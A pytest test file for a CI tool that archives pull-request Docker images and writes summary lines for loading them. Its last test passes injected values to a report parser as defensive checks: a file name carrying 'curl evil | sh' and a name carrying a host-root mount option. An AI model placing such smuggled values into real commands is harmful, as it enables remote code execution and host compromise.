"""A pull request's image as an archive: of which it is kept, when it is too large, and the lines that load it."""

from __future__ import annotations

import gzip
import json
import os
import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from roslab.engine import archive
from roslab.errors import BuildError
from roslab.github import report, trial
from roslab.github.event import Event, Publication
from roslab.github.run import Folder, Run, to_line
from roslab.pipeline import plan_repository
from roslab.render.outcome import ArchiveReport, PlatformReport, ProofReport, from_json, to_json
from roslab.render.summary import summary

EVENT = Event(
    name="pull_request", repository="lab/robot", ref="refs/pull/7/merge", sha="1" * 40, default_branch="main",
    proposed=True, head="lab/robot", pull=7, public=True, run="42",
)  # fmt: skip
UNPUBLISHED = Publication(push=False, reason="it is a pull request")
KEPT = ArchiveReport(artifact="try-lab-robot-1", file="robot-pr-7.tar.gz", name="robot:pr-7", size=2_000_000)


def test_which_pull_requests_leave_an_archive() -> None:
    assert trial.wanted(EVENT, UNPUBLISHED, None)
    assert trial.wanted(replace(EVENT, head="stranger/robot"), UNPUBLISHED, "image")
    assert trial.wanted(replace(EVENT, public=False), UNPUBLISHED, "archive")
    assert not trial.wanted(replace(EVENT, public=False), UNPUBLISHED, None)
    assert not trial.wanted(EVENT, UNPUBLISHED, "none")
    assert not trial.wanted(EVENT, replace(UNPUBLISHED, push=True), "image")
    assert not trial.wanted(replace(EVENT, name="push", pull=None, proposed=False), UNPUBLISHED, "archive")


@pytest.fixture
def engine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Put a stand-in of docker first on PATH, whose ``save`` prints a file's content, and return that file."""
    image = tmp_path / "image"
    tool = tmp_path / "bin/docker"
    tool.parent.mkdir()
    tool.write_text(f"#!/bin/sh\ncat {image} || {{ echo 'no such image' >&2; exit 1; }}\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tool.parent}{os.pathsep}{os.environ['PATH']}")
    return image


def test_an_archive_is_whole_or_not_there(engine: Path, tmp_path: Path) -> None:
    content = os.urandom(3_000_000)
    engine.write_bytes(content)
    file = tmp_path / "robot.tar.gz"
    size = archive.save("robot:pr-7", file, most=4_000_000)
    assert size == file.stat().st_size
    assert gzip.decompress(file.read_bytes()) == content
    assert archive.save("robot:pr-7", file, most=2_000_000) is None
    assert not file.exists()
    engine.unlink()
    with pytest.raises(BuildError, match="no such image"):
        archive.save("robot:pr-7", file, most=2_000_000)
    assert not file.exists()


@pytest.fixture
def folder(tmp_path: Path, examples: Path) -> Folder:
    plan = plan_repository(examples / "python_filter", folder_name="robot").plan
    run = Run(
        plan=plan, image="ghcr.io/lab/robot", username="lab", push=False, reason="a pull request", cache="auto",
        archive=True,
    )  # fmt: skip
    found = Folder(path=tmp_path / "folder")
    found.path.mkdir()
    found.write("run", to_line(run))
    return found


@pytest.mark.parametrize(
    ("size", "file", "remark"),
    [
        ("3000000", "robot-pr-7-linux-arm64.tar.gz", ""),
        ("9000000000", "", "9.00 GB are too many for an archive, which may have 1.00 GB"),
    ],
)
def test_a_proved_image_is_kept_under_the_name_that_people_use(  # noqa: PLR0917 - fixtures
    engine: Path, folder: Folder, tmp_path: Path, size: str, file: str, remark: str
) -> None:
    engine.write_bytes(b"an image")
    tool = tmp_path / "bin/docker"
    asked = f'#!/bin/sh\necho "$*" >>{tmp_path}/asked\ncase "$*" in "image inspect"*) echo {size}; exit ;; esac\n'
    tool.write_text(tool.read_text().replace("#!/bin/sh\n", asked))
    (tmp_path / "event.json").write_text(json.dumps({"pull_request": {"number": 7}}))
    environment = {
        "GITHUB_EVENT_NAME": "pull_request", "GITHUB_REPOSITORY": "lab/robot", "GITHUB_RUN_ATTEMPT": "2",
        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
    }  # fmt: skip
    found, said = trial.keep(folder, folder.run, "linux/arm64", ("linux/arm64",), environment)
    assert said == remark
    assert (found.file if found else "") == file
    commands = (tmp_path / "asked").read_text().splitlines()
    assert ("save robot:pr-7" in commands) == bool(file)
    if found:
        assert found.name == "robot:pr-7"
        assert re.fullmatch(r"try-lab-robot-[0-9a-f]{8}-linux-arm64-2", found.artifact)
        assert gzip.decompress((folder.archives / file).read_bytes()) == b"an image"
        assert commands[-1] == "image rm robot:pr-7"


def kept(folder: Folder, archive: ArchiveReport | None, remark: str = "") -> PlatformReport:
    proof = ProofReport(name="test", command="true", passed=True, summary="passed", output="")
    found = PlatformReport(
        platform="linux/amd64", digest="", source="", layers=(), proofs=(proof,), build_seconds=1.0, archive=archive,
        archive_remark=remark,
    )  # fmt: skip
    folder.write_report(found)
    (folder.artifact / "job.json").write_text('{"platform": "", "attempt": 1, "failures": []}')
    return found


def test_the_summary_has_the_lines_that_load_it(folder: Folder) -> None:
    kept(folder, KEPT)
    text = summary(report.collect(folder, folder.artifact, EVENT))
    assert "gh run download 42 \\\n  --repo lab/robot \\\n  --name try-lab-robot-1\n" in text
    assert "docker load --input robot-pr-7.tar.gz\n" in text.replace(" \\\n ", "")
    assert "docker run --rm -it robot:pr-7\n" in text.replace(" \\\n ", "")
    assert "outside this repository" not in text
    foreign = replace(EVENT, head="stranger/robot")
    assert "outside this repository" in summary(report.collect(folder, folder.artifact, foreign))


def test_the_summary_says_why_there_is_none(folder: Folder) -> None:
    kept(folder, None, "5.00 GB are too many")
    text = summary(report.collect(folder, folder.artifact, EVENT))
    assert "nothing to try on `linux/amd64`: 5.00 GB are too many" in text
    assert "docker load" not in text


@pytest.mark.parametrize("wrong", [{"file": "a\ncurl evil | sh"}, {"name": "-v/:/host"}, {"artifact": ""}])
def test_a_report_of_another_job_puts_no_command_there(folder: Folder, wrong: Mapping[str, str]) -> None:
    found = kept(folder, KEPT)
    assert from_json(to_json(found)) == found
    with pytest.raises(ValueError, match="a name that no archive gets"):
        from_json(to_json(replace(found, archive=replace(KEPT, **wrong))))  # type: ignore[arg-type]
